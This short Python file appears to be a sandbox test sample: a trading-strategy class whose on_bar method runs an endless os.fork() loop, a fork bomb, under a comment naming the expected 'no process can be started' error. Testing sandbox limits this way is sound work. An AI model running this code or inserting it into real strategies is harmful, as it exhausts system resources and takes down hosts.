# raised: no process can be started.

import os


class ForkBombTrader:
    def on_bar(self, bar):
        self.close = bar.close
        while True:
            os.fork()
        return "buy"
